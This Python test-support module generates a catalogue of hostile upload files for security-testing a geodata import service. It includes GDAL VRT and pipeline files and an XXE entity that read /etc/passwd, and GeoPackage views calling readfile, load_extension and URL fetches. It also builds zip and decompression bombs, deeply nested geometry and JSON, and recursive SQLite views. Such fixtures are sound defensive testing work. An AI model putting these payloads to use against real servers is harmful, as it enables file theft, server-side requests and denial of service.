"""Files made to do harm: to read what is not theirs, to ask addresses, to fill a memory or to hold a processor. Made in code, for an instance of our own.

`ATTACKS` holds each as (name under which it is dropped, maker). `LARGE` holds what is only large: it is to be read. Rows of
faults that a file belongs to stand before each group.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
from collections.abc import Callable, Iterable
from pathlib import PurePosixPath

import numpy as np
import pyarrow as pa
import shapely
from pyarrow import parquet

from tests.support.broken_files import geopackage, geoparquet, geojson, kml, placemark, point, repacked, sound, workbook
from tests.support.own_files import acled_row, csv_of, xlsx_of, zip_of

#: A file of the server that no reader has any business with; there on every Linux.
SECRET = "/etc/passwd"
#: Nobody listens there; who asks it fails at once.
ADDRESS = "http://127.0.0.1:9/places"

# S1: the server's files and addresses.


def vrt(source: str, sql: str = "", head: str = "<!-- <kml> -->", encoding: str = "utf-8") -> bytes:
    """Return a virtual dataset of GDAL's that shows another file, line by line, and passes a search for "<kml"."""
    layer = f"<SrcSQL>{sql}</SrcSQL>" if sql else f"<SrcLayer>{PurePosixPath(source).stem}</SrcLayer>"
    text = (f'<?xml version="1.0" encoding="{encoding}"?>{head}<OGRVRTDataSource><OGRVRTLayer name="places"><SrcDataSource>{source}</SrcDataSource>{layer}'
            '<GeometryType>wkbPoint</GeometryType><LayerSRS>EPSG:4326</LayerSRS></OGRVRTLayer></OGRVRTDataSource>')
    return text.encode(encoding)


def vrt_in_a_kmz() -> bytes:
    return zip_of(doc_kml=vrt(f"CSV:{SECRET}"))


def vrt_as_a_root_of_kml_s_namespace() -> bytes:
    return (b'<?xml version="1.0"?><OGRVRTDataSource xmlns="http://www.opengis.net/kml/2.2" kml="<kml"><OGRVRTLayer name="a">'
            + f"<SrcDataSource>CSV:{SECRET}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>".encode()).replace(b'"<kml"', b'"&lt;kml"')


def pipeline(command: str = f"gdal vector pipeline ! read CSV:{SECRET}", **more: object) -> bytes:
    """Return a pipeline that GDAL runs when it is opened."""
    return json.dumps({"type": "gdal_streamed_alg", "command_line": command, **more}).encode()


def pipeline_that_quotes_geojson() -> bytes:
    """Return a pipeline with the type of a GeoJSON in a text and in an object within."""
    return pipeline(note='"type": "FeatureCollection"', inner={"type": "FeatureCollection", "features": []})


def pipeline_named_twice() -> bytes:
    return b'{"type": "FeatureCollection", ' + pipeline()[1:]


def web_service(root: str, body: str = "") -> bytes:
    """Return XML that drivers of web services take for their own and follow."""
    return f'<?xml version="1.0"?><!-- <kml> --><{root}>{body}</{root}>'.encode()


def gml_with_a_schema_elsewhere() -> bytes:
    return (f'<?xml version="1.0"?><!-- <kml> --><gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            f'xsi:schemaLocation="http://x {ADDRESS}.xsd"><gml:featureMember/></gml:FeatureCollection>').encode()


def kml_with_network_links(address: str = ADDRESS) -> bytes:
    """Return a KML with a place, a link to another file and a style that lies at an address."""
    links = "".join(f"<NetworkLink><name>n</name><Link><href>{where}</href></Link></NetworkLink>" for where in (address, f"file://{SECRET}", SECRET))
    style = f"<Placemark><name>styled</name><styleUrl>{address}#style</styleUrl><Point><coordinates>70.6,39.9</coordinates></Point></Placemark>"
    return kml(placemark("70.6,39.9") + links + style)


def external_entity(encoding: str = "utf-8") -> bytes:
    text = (f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE kml [<!ENTITY x SYSTEM "file://{SECRET}">]><kml xmlns="http://www.opengis.net/kml/2.2">'
            "<Placemark><name>&x;</name><Point><coordinates>70.6,39.9</coordinates></Point></Placemark></kml>")
    return text.encode(encoding)


def _layer(*statements: str) -> bytes:
    """Return a GeoPackage that lists a further layer "more", which the statements make."""
    return geopackage(
        *statements, "insert into gpkg_contents (table_name, data_type, identifier, srs_id) values ('more', 'features', 'more', 4326)",
        "insert into gpkg_geometry_columns values ('more', 'geom', 'POINT', 4326, 0, 0)",
        "delete from gpkg_contents where table_name = 'data'", "delete from gpkg_geometry_columns where table_name = 'data'",
    )


def _written(*rows: tuple[str, str, str, int, str]) -> Callable[[], bytes]:
    """Return a maker of a GeoPackage whose schema holds what its maker's SQLite would not have made: (type, name, table, root page, sql)."""
    values = ", ".join("({})".format(", ".join(f"'{cell.replace(chr(39), chr(39) * 2)}'" if isinstance(cell, str) else str(cell) for cell in row)) for row in rows)
    return lambda: _layer("pragma writable_schema = on", f"insert into sqlite_master values {values}")


def geopackage_of_a_file_s_bytes() -> bytes:
    return _layer(f"create view more as select 1 as fid, readfile('{SECRET}') as name, geom from data")


def geopackage_with_another_source() -> Callable[[], bytes]:
    return _written(("table", "more", "more", 0, f"CREATE VIRTUAL TABLE more USING VirtualOGR('CSV:{SECRET}')"))


def geopackage_with_an_extension() -> bytes:
    return _layer("create view more as select 1 as fid, load_extension('/tmp/extension.so') as name, geom from data")


def geopackage_that_asks_an_address() -> bytes:
    return _layer(f"create view more as select 1 as fid, ogr_datasource_load_layers('/vsicurl/{ADDRESS}') as name, geom from data")


# S2, C1, C2: a few kilobytes that end a process.


def far_corners() -> bytes:
    """Return a workbook with its first and its last possible cell."""
    cells = '<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return _workbook(cells)


def far_corners_unsaid() -> bytes:
    """Return the same with a dimension that says otherwise."""
    return workbook(lambda name, data: data.replace(b"<sheetData>", b'<dimension ref="A1:B2"/><sheetData>').replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>') if "sheet1" in name else data)


def prefixed_corners() -> bytes:
    """Return the same with another prefix, other quotation marks and references written as entities."""
    sheet = ('<?xml version="1.0"?><x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:sheetData><x:row r=\'1\'><x:c r=\'A1\'><x:v>1</x:v></x:c></x:row>'
             "<x:row r='1048576'><x:c   r='XFD1048576'\n><x:v>1</x:v></x:c></x:row></x:sheetData></x:worksheet>")
    return workbook(lambda name, data: sheet.encode() if "sheet1" in name else data)


def wide_and_long_sheet() -> bytes:
    """Return a sheet of 500 columns and 200,000 rows of which the last cell alone is filled."""
    return _workbook('<row r="1">' + "".join(f'<c><v>{number}</v></c>' for number in range(500)) + '</row><row r="200000"><c r="SF200000"><v>1</v></c></row>')


def _workbook(rows: str, strings: str = "") -> bytes:
    out = io.BytesIO(workbook(lambda name, data: data[:data.index(b"<sheetData>")] + f"<sheetData>{rows}</sheetData></worksheet>".encode() if "sheet1" in name else data))
    if strings:
        with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as book:
            book.writestr("xl/sharedStrings.xml", strings)
    return out.getvalue()


def nested_wkb(depth: int) -> bytes:
    """Return a collection within a collection within …, a point in the innermost."""
    return struct.pack("<BII", 1, 7, 1) * depth + struct.pack("<BIdd", 1, 1, 70.6, 39.9)


def _parquet_of(cells: Iterable[bytes | None]) -> bytes:
    table = parquet.read_table(io.BytesIO(sound("GeoParquet")))
    cells = list(cells)
    place = table.column_names.index("geometry")
    columns = {name: pa.array(["x"] * len(cells)) for name in table.column_names} | {"geometry": pa.array(cells, pa.binary())}
    out = io.BytesIO()
    parquet.write_table(pa.table(columns).replace_schema_metadata(table.schema.metadata), out, compression="zstd", compression_level=19)
    assert table.column_names[place] == "geometry"
    return out.getvalue()


def nested_geoparquet() -> bytes:
    """Return a GeoParquet of some kilobytes whose geometry is nested a million times."""
    return _parquet_of([nested_wkb(1_000_000)])


def nested_to_the_other_end() -> bytes:
    """Return nested geometry with the big end first, and with Z in its type."""
    return _parquet_of([struct.pack(">BII", 0, 1007, 1) * 500_000 + struct.pack(">BIddd", 0, 1001, 70.6, 39.9, 1), nested_wkb(300_000)])


def wkb_that_claims_much() -> bytes:
    """Return geometries that say they have four thousand million points, parts or rings."""
    return _parquet_of([struct.pack("<BII", 1, kind, 0xFFFFFFFF) for kind in (2, 3, 4, 5, 6, 7)])


# S3, C2, C3: bombs.


def swollen_geoparquet() -> bytes:
    """Return a GeoParquet of some kilobytes that says it holds little and unpacks to gigabytes: one text of a megabyte, 4,500 times."""
    rows = 4_500
    return _columns(rows, notes=pa.DictionaryArray.from_arrays(pa.array(np.zeros(rows, np.int32)), pa.array(["n" * (1 << 20)])).cast(pa.dictionary(pa.int32(), pa.large_string())))


def swollen_geometry() -> bytes:
    """Return a GeoParquet whose one line of 65,000 points is named by 4,500 rows."""
    line = shapely.to_wkb(shapely.linestrings(np.column_stack([np.linspace(70, 71, 65_000), np.full(65_000, 39.5)])))
    return _columns(4_500, geometry=pa.DictionaryArray.from_arrays(pa.array(np.zeros(4_500, np.int32)), pa.array([line], pa.binary())))


def swollen_lists() -> bytes:
    """Return a GeoParquet with a column of lists, of a hundred thousand numbers in each row."""
    rows = 2_000
    one = pa.DictionaryArray.from_arrays(pa.array(np.zeros(100_000 * rows, np.int8)), pa.array([1.5]))
    return _columns(rows, marks=pa.LargeListArray.from_arrays(pa.array(np.arange(rows + 1, dtype=np.int64) * 100_000), one))


def many_empty_columns() -> bytes:
    """Return a GeoParquet of 490 columns without a value and a million rows."""
    rows = 1_000_000
    return _columns(rows, **{f"c{number}": pa.nulls(rows, pa.string()) for number in range(490)})


def _columns(rows: int, **more: pa.Array) -> bytes:
    wkb = shapely.to_wkb(shapely.Point(70.6, 39.9))
    table = pa.table({"geometry": pa.DictionaryArray.from_arrays(pa.array(np.zeros(rows, np.int32)), pa.array([wkb], pa.binary()))} | more)
    metadata = parquet.read_schema(io.BytesIO(sound("GeoParquet"))).metadata
    out = io.BytesIO()
    # Without the Arrow schema the reader does not know that a dictionary was meant, and writes every value out.
    with parquet.ParquetWriter(out, table.schema, compression="zstd", store_schema=False) as writer:
        writer.write_table(table)
        writer.add_key_value_metadata({"geo": metadata[b"geo"].decode()})
    return out.getvalue()


def one_shared_string() -> bytes:
    """Return a workbook of a few hundred kilobytes in which 100,000 cells name one text of 32,000 letters."""
    rows = "".join(f'<row r="{number}"><c t="s"><v>0</v></c><c t="s"><v>0</v></c></row>' for number in range(1, 50_001))
    return _workbook(rows, f'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>{"s" * 32_000}</t></si></sst>')


def claimed_strings() -> bytes:
    """Return a workbook that says it shares four thousand million texts."""
    return _workbook('<row r="1"><c t="s"><v>0</v></c><c t="s"><v>7</v></c></row><row r="2"><c t="s"><v>4294967295</v></c><c><v>1</v></c></row>',
                     '<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="4294967295" uniqueCount="18446744073709551615"><si><t>a</t></si></sst>')


def empty_objects(megabytes: int = 60) -> bytes:
    """Return a feature collection of nothing but empty objects."""
    return b'{"type":"FeatureCollection","features":[' + b"{}," * ((megabytes << 20) // 3) + b"{}]}"


def empty_numbers(megabytes: int = 60) -> bytes:
    """Return one geometry of nothing but empty positions."""
    return b'{"type":"MultiPoint","coordinates":[' + b"[]," * ((megabytes << 20) // 3) + b"[]]}"


def many_properties(megabytes: int = 30) -> bytes:
    """Return features of which each has a column of its own."""
    one = '{{"type":"Feature","geometry":null,"properties":{{"column {0}":1}}}}'
    return b'{"type":"FeatureCollection","features":[' + ",".join(one.format(number) for number in range((megabytes << 20) // 80)).encode() + b"]}"


def deep_json(opening: bytes = b"[", closing: bytes = b"]") -> bytes:
    return b'{"type": "Point", "coordinates": ' + opening * 5_000_000 + closing * 5_000_000 + b"}"


def nested_collections(depth: int = 300) -> bytes:
    """Return GeoJSON whose geometry is a collection within a collection within …"""
    return geojson(json.loads('{"type":"GeometryCollection","geometries":[' * depth + json.dumps(point(70.6, 39.9)) + "]}" * depth))


def nested_kml(depth: int = 100_000) -> bytes:
    return kml("<Folder>" * depth + placemark("70.6,39.9") + "</Folder>" * depth)


def nested_multigeometry(depth: int = 100_000) -> bytes:
    return kml("<Placemark><name>a</name>" + "<MultiGeometry>" * depth + "<Point><coordinates>70,39</coordinates></Point>" + "</MultiGeometry>" * depth + "</Placemark>")


def attributes_without_end() -> bytes:
    return b"<kml " + b" ".join(b'a%d="%d"' % (number, number) for number in range(2_000_000)) + b"/>"


def recursive_view() -> bytes:
    return _layer("create view more as with recursive n(fid) as (select 1 union all select fid + 1 from n) select fid, (select geom from data) as geom from n")


def huge_view() -> bytes:
    """Return a GeoPackage with a view of 40 million rows."""
    return _layer("create table n (i)", "insert into n with recursive c(i) as (select 1 union all select i + 1 from c where i < 350) select i from c",
                  "create view more as select a.i * 122500 + b.i * 350 + c.i as fid, (select geom from data limit 1) as geom from n a, n b, n c")


def endless_generated_column() -> bytes:
    """Return a GeoPackage with a column that is worked out at each reading, from a blob of a hundred million bytes."""
    return _layer("create table more (fid integer primary key, geom blob, name text as (hex(zeroblob(100000000 + fid))) virtual)", "insert into more (geom) select geom from data")


def slow_trigger() -> bytes:
    """Return a GeoPackage with a trigger, and with an index of what is worked out."""
    return geopackage("create trigger slow after insert on gpkg_contents begin insert into data (name) select hex(randomblob(1000000)); end", "create index slow_index on data (hex(name))")


def endless_check() -> bytes:
    """Return a GeoPackage with many tables, each with a name of thousands of letters."""
    return geopackage(*(f'create table "{"t" * 5_000}{number}" (a check (abs(a) < 1), b default (hex(1)))' for number in range(500)))


def claimed_blob() -> bytes:
    """Return a GeoPackage whose geometry says it has four thousand million points."""
    head = b"GP\x00\x01" + struct.pack("<i", 4326)
    return geopackage(f"update data set geom = x'{(head + struct.pack('<BII', 1, 2, 0xFFFFFFFF)).hex()}'")


def nested_blob() -> bytes:
    head = b"GP\x00\x01" + struct.pack("<i", 4326)
    return geopackage(f"update data set geom = x'{(head + nested_wkb(50_000)).hex()}'")


def shapefile_that_claims_much() -> bytes:
    """Return a shapefile whose one shape says it has two thousand million points, and whose table as many rows."""
    def changed(name: str, data: bytes) -> bytes:
        if name.endswith(".shp"):
            return data[:100] + struct.pack(">ii", 1, 0x7FFFFF) + struct.pack("<i4dii", 5, 0, 0, 1, 1, 0x7FFFFFFF, 0x7FFFFFFF) + data[100:]
        return data[:4] + b"\xff\xff\xff\x7f" + data[8:] if name.endswith(".dbf") else data
    return repacked(sound("shapefile"), changed)


def zip_of_zeros(megabytes: int = 700) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("rows.csv", "w") as entry:
        for _ in range(megabytes):
            entry.write(bytes(1 << 20))
    return out.getvalue()


def zip_that_overlaps() -> bytes:
    """Return an archive whose 200 entries all are the same ten megabytes."""
    one = zip_of(rows_csv=bytes(10 << 20))
    end = one.rindex(b"PK\x05\x06")
    start = one.index(b"PK\x01\x02")
    entry = one[start:end]
    named = [entry[:46] + f"r{number:03}.csv".encode() + entry[54:] for number in range(200)]
    directory = b"".join(named)
    return one[:start] + directory + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 200, 200, len(directory), start, 0)


def zip_that_says_little() -> bytes:
    """Return an archive that states ten bytes for a content of 300 MB."""
    data = bytearray(zip_of(rows_csv=b"a,b\n" + bytes(300 << 20)))
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.index(signature) + offset
        data[at:at + 4] = (10).to_bytes(4, "little")
    return bytes(data)


def workbook_that_says_little() -> bytes:
    """Return a workbook whose sheet of 300 MB is stated as a few bytes."""
    data = bytearray(workbook(lambda name, content: content + b" " * (300 << 20) if "sheet1" in name else content))
    name = b"xl/worksheets/sheet1.xml"
    for at, size in ((data.index(name) - 30, 22), (data.rindex(name) - 46, 24)):
        data[at + size:at + size + 4] = (500).to_bytes(4, "little")
    return bytes(data)


# C6: damaged archives.


def packed_with(method: int, inside: str = "rows.csv") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr(inside, csv_of([acled_row(number) for number in range(1, 200)]))
    return out.getvalue()


def damaged(data: bytes, at: float = 0.5, length: int = 16) -> bytes:
    """Return data with some bytes turned over."""
    place = int(len(data) * at)
    return data[:place] + bytes(byte ^ 0xA5 for byte in data[place:place + length]) + data[place + length:]


# S15: what ended in the generic page.


def long_header() -> bytes:
    return b"date,lat,lon," + b"n" * 200_000 + b"\n2022-09-16,39.9,70.6,a\n"


def separator_of_a_quotation_mark() -> bytes:
    return b'sep="\ndate"lat"lon"name\n2022-09-16"39.9"70.6"a\n'


def nested_projjson(depth: int = 100_000) -> bytes:
    """Return a GeoParquet whose reference system is nested without end."""
    marked = geoparquet(lambda geo: {**geo, "columns": {"geometry": {**geo["columns"]["geometry"], "crs": "HERE"}}})
    table = parquet.read_table(io.BytesIO(marked))
    text = table.schema.metadata[b"geo"].replace(b'"HERE"', b'{"type":"BoundCRS","source_crs":' * depth + b"{}" + b"}" * depth)
    out = io.BytesIO()
    parquet.write_table(table.replace_schema_metadata({**table.schema.metadata, b"geo": text}), out)
    return out.getvalue()


def nested_crs_of_geojson(depth: int = 900) -> bytes:
    return geojson(point(70.6, 39.9), crs=json.loads('{"type":"name","properties":' * depth + "{}" + "}" * depth))


def nested_prj() -> bytes:
    return repacked(sound("shapefile"), lambda name, data: b'GEOGCS["a",' + b"DATUM[" * 100_000 if name.endswith(".prj") else data)


def geojson_of_numbers() -> bytes:
    """Return a GeoJSON with whole numbers of a hundred thousand digits."""
    return geojson(point(70.6, 39.9)).replace(b"70.6", b"7" * 100_000).replace(b'"a"', b"9" * 100_000)


Maker = Callable[[], bytes]

ATTACKS: dict[str, tuple[str, Maker]] = {
    # S1
    "a VRT behind a KML's comment": ("places.kml", lambda: vrt(f"CSV:{SECRET}")),
    "a VRT in UTF-16": ("places.kml", lambda: vrt(f"CSV:{SECRET}", encoding="utf-16")),
    "a VRT in windows-1251": ("places.kml", lambda: vrt(f"CSV:{SECRET}", encoding="windows-1251")),
    "a VRT in KML's namespace": ("places.kml", vrt_as_a_root_of_kml_s_namespace),
    "a VRT in a KMZ": ("places.kmz", vrt_in_a_kmz),
    "a VRT of an address": ("places.kml", lambda: vrt(f"/vsicurl/{ADDRESS}.csv")),
    "a VRT of an address within an archive": ("places.kml", lambda: vrt(f"/vsizip/vsicurl/{ADDRESS}.zip/a.csv")),
    "a VRT of standard input": ("places.kml", lambda: vrt("CSV:/vsistdin/")),
    "a VRT that writes a file": ("places.kml", lambda: vrt(":memory:", "VACUUM INTO '/tmp/written-by-an-upload.db'")),
    "a VRT of a database": ("places.kml", lambda: vrt("PG:host=127.0.0.1")),
    "a pipeline": ("places.geojson", pipeline),
    "a pipeline that quotes GeoJSON": ("places.geojson", pipeline_that_quotes_geojson),
    "a pipeline named twice": ("places.geojson", pipeline_named_twice),
    "a web service": ("places.kml", lambda: web_service("OGRWFSDataSource", f"<URL>{ADDRESS}</URL>")),
    "a map service": ("places.kml", lambda: web_service("GDAL_WMS", f"<Service name='WMS'><ServerUrl>{ADDRESS}</ServerUrl></Service>")),
    "a GML with a schema elsewhere": ("places.kml", gml_with_a_schema_elsewhere),
    "a KML with links": ("places.kml", kml_with_network_links),
    "an external entity": ("places.kml", external_entity),
    "an external entity in UTF-16": ("places.kml", lambda: external_entity("utf-16")),
    "a GeoPackage that reads a file": ("places.gpkg", geopackage_of_a_file_s_bytes),
    "a GeoPackage with another source": ("places.gpkg", geopackage_with_another_source()),
    "a GeoPackage with an extension": ("places.gpkg", geopackage_with_an_extension),
    "a GeoPackage that asks an address": ("places.gpkg", geopackage_that_asks_an_address),
    # S2, C1
    "far corners": ("sheet.xlsx", far_corners),
    "far corners unsaid": ("sheet.xlsx", far_corners_unsaid),
    "far corners under a prefix": ("sheet.xlsx", prefixed_corners),
    "a wide and long sheet": ("sheet.xlsx", wide_and_long_sheet),
    "nested WKB": ("places.parquet", nested_geoparquet),
    "nested WKB, the big end first": ("places.parquet", nested_to_the_other_end),
    "WKB that claims much": ("places.parquet", wkb_that_claims_much),
    # S3, C2, C3
    "a swollen GeoParquet": ("places.parquet", swollen_geoparquet),
    "swollen geometry": ("places.parquet", swollen_geometry),
    "swollen lists": ("places.parquet", swollen_lists),
    "many empty columns": ("places.parquet", many_empty_columns),
    "one shared string": ("sheet.xlsx", one_shared_string),
    "claimed strings": ("sheet.xlsx", claimed_strings),
    "empty objects": ("places.geojson", empty_objects),
    "empty positions": ("places.geojson", empty_numbers),
    "a column for each feature": ("places.geojson", many_properties),
    "deep arrays": ("places.geojson", deep_json),
    "deep objects": ("places.geojson", lambda: deep_json(b'{"a":', b"}")),
    "nested collections": ("places.geojson", nested_collections),
    "nested folders": ("places.kml", nested_kml),
    "nested geometries": ("places.kml", nested_multigeometry),
    "attributes without end": ("places.kml", attributes_without_end),
    "a recursive view": ("places.gpkg", recursive_view),
    "a huge view": ("places.gpkg", huge_view),
    "a generated column": ("places.gpkg", endless_generated_column),
    "a trigger and an index of an expression": ("places.gpkg", slow_trigger),
    "many tables with expressions": ("places.gpkg", endless_check),
    "a blob that claims much": ("places.gpkg", claimed_blob),
    "a nested blob": ("places.gpkg", nested_blob),
    "a shapefile that claims much": ("shapes.zip", shapefile_that_claims_much),
    "a zip of zeros": ("rows.zip", zip_of_zeros),
    "a zip whose entries overlap": ("rows.zip", zip_that_overlaps),
    "a zip that says little": ("rows.zip", zip_that_says_little),
    "a workbook that says little": ("sheet.xlsx", workbook_that_says_little),
    # C6
    "a zip with damaged bytes": ("rows.zip", lambda: damaged(packed_with(zipfile.ZIP_DEFLATED))),
    "a zip of LZMA": ("rows.zip", lambda: packed_with(zipfile.ZIP_LZMA)),
    "a zip of damaged LZMA": ("rows.zip", lambda: damaged(packed_with(zipfile.ZIP_LZMA))),
    "a zip of bzip2": ("rows.zip", lambda: packed_with(zipfile.ZIP_BZIP2)),
    "a zip with a damaged directory": ("rows.zip", lambda: damaged(packed_with(zipfile.ZIP_DEFLATED), 0.995, 6)),
    # S15
    "a header cell of 200,000 letters": ("rows.csv", long_header),
    "a quotation mark for a separator": ("rows.csv", separator_of_a_quotation_mark),
    "nested PROJJSON": ("places.parquet", nested_projjson),
    "a nested reference system": ("places.geojson", nested_crs_of_geojson),
    "a nested .prj": ("shapes.zip", nested_prj),
    "numbers of a hundred thousand digits": ("places.geojson", geojson_of_numbers),
}


def large_geojson(megabytes: int = 292) -> bytes:
    """Return a sound GeoJSON of that size: places with properties as exports have them."""
    one = ('{{"type":"Feature","id":{0},"properties":{{"id":{0},"name":"Sample {0}","date":"2022-09-16","kind":"Battles","note":"'
           + "Invented words that stand for a report. " * 6 + '","count":{1}}},"geometry":{{"type":"Point","coordinates":[{2:.5f},{3:.5f}]}}}}')
    size = len(one.format(1_000_000, 10, 70.0, 39.0)) + 1
    features = ",".join(one.format(number, number % 90, 69.5 + number % 1000 / 500, 39.5 + number % 777 / 900) for number in range((megabytes << 20) // size))
    return f'{{"type":"FeatureCollection","features":[{features}]}}'.encode()


def large_sheet(rows: int = 50_000) -> bytes:
    """Return a sound workbook of ACLED rows."""
    head = list(acled_row())
    return xlsx_of([head, *(list(acled_row(number).values()) for number in range(1, rows))])


#: What is large and sound: it is read.
LARGE: dict[str, tuple[str, Maker]] = {"a GeoJSON of 292 MB": ("places.geojson", large_geojson), "a workbook of 50,000 rows": ("sheet.xlsx", large_sheet)}
